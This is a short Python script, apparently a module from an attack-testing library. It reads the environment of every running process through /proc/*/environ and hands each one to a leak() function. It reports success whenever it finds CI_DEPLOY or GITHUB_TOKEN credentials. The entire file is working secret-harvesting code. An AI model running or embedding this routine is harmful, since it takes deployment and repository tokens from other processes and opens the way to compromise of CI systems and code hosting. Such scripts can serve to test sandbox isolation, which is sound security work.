"""secrets: scan every /proc/*/environ for tokens."""

import os

from attacklib import *

found = 0
for pid in os.listdir("/proc") if os.path.isdir("/proc") else []:
    if pid.isdigit():
        try:
            data = open("/proc/%s/environ" % pid, "rb").read()
        except OSError:
            continue
        leak(data)
        if b"CI_DEPLOY" in data or b"GITHUB_TOKEN" in data:
            succeeded("found a token in /proc/%s/environ" % pid)
